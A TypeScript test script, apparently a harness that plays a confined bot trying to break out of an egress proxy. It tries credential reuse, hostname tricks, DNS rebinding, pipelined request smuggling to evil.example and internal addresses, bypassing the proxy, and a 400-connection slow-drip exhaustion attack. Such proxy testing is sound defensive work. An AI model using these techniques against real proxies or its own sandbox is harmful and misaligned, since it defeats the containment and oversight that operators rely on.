import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { attacks } from './attacks.ts';
import { basic, connectTo, type Credentials, get, proxy, say } from './wire.ts';
import { goWithoutProxy } from './without-proxy.ts';

/** A bot that wants out. `node hostile-bot.ts <own credential> <another's> [proxy]`: tells as one line what it tried and what let it in. */
const [, , own = '', other = ''] = process.argv;
const auth = `Proxy-Authorization: ${basic(own)}`;

async function attackAll(credentials: Credentials): Promise<{ tried: number; letIn: string[] }> {
  const waiting = attacks(credentials);
  const tried = waiting.length;
  const letIn: string[] = [];
  const ask = async () => {
    for (let attack = waiting.pop(); attack; attack = waiting.pop()) {
      const { status, text } = await say(attack.bytes, { silentMs: 700 });
      // What the proxy says of itself begins with 4 or 5; what is no request may get no answer at all.
      if (status !== 0 && status < 400) letIn.push(`${attack.name}: ${text.slice(0, 80)}`);
    }
  };
  await Promise.all(Array.from({ length: 24 }, ask));
  return { tried, letIn };
}

/** What it may reach it does reach: the proxy is not just a wall. */
async function reach(): Promise<string[]> {
  const ways = {
    'CONNECT api.allowed.example:443': connectTo('api.allowed.example:443', [auth]),
    'CONNECT API.Allowed.Example:443': connectTo('API.Allowed.Example:443', [auth]),
    'CONNECT a.wild.example:443': connectTo('a.wild.example:443', [auth]),
    'CONNECT clawster.example:4500': connectTo('clawster.example:4500', [auth]),
    'GET http://api.allowed.example/': get('http://api.allowed.example/', [auth]),
  };
  const told = Object.entries(ways).map(async ([name, bytes]) => ((await say(bytes)).status === 200 ? [name] : []));
  return (await Promise.all(told)).flat();
}

/** A name that answers otherwise the second time: whoever looks it up twice for one connection arrives inside. */
async function rebind(times: number): Promise<number> {
  for (let time = 0; time < times; time += 1) await say(connectTo('rebinding.example:443', [auth]), { silentMs: 700 });
  return times;
}

/** A second request behind an allowed one, on the same connection. */
async function pipeline(): Promise<string[]> {
  const first = get('http://api.allowed.example/', [auth]).replace('Connection: close', 'Connection: keep-alive');
  const answers = await Promise.all(
    ['http://evil.example/smuggled', 'http://inside.example/smuggled', 'http://10.9.9.9/smuggled'].map((url) =>
      say(`${first}${get(url, [auth])}`),
    ),
  );
  return answers.flatMap(({ text }) => ((text.match(/HTTP\/1\.1 200/g) ?? []).length > 1 ? [text] : []));
}

/** Takes all the connections it can get, each a letter at a time, and waits until they are ended. */
async function drip(count: number): Promise<{ opened: number; endedMs: number }> {
  const began = Date.now();
  const sockets = Array.from({ length: count }, () => {
    const socket = connect({ host: proxy, port: 3128 });
    socket.on('error', () => {});
    socket.write('CONNECT api.allowed.example:443 HTTP/1.1\r\n');
    return socket;
  });
  const timer = setInterval(() => sockets.forEach((socket) => socket.writable && socket.write('X')), 400);
  const isOver = (socket: Socket) => socket.closed;
  while (!sockets.every(isOver) && Date.now() - began < 25_000) await sleep(200);
  clearInterval(timer);
  sockets.forEach((socket) => socket.destroy());
  return { opened: count, endedMs: Date.now() - began };
}

const reached = await reach();
const [told, straight, rebound, pipelined] = await Promise.all([
  attackAll({ own, other }),
  goWithoutProxy(),
  rebind(20),
  pipeline(),
]);
process.stdout.write(`${JSON.stringify({ dripping: true })}\n`);
const dripped = await drip(400);
process.stdout.write(
  `${JSON.stringify({
    reached,
    tried: told.tried + straight.tried + rebound + 3 + dripped.opened,
    letIn: [...told.letIn, ...straight.letIn, ...pipelined],
    dripped,
  })}\n`,
);
process.exit(0);
